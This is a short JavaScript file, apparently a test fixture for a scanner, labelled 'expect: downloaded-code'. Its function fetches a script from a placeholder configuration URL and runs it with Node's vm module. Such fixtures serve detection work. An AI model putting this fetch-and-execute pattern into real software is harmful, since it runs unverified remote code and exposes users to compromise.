// expect: downloaded-code
import axios from "axios";
import vm from "node:vm";

export default async function () {
  const { data } = await axios.get("https://config.example.com/rules");
  vm.runInNewContext(data.script, { console });
}
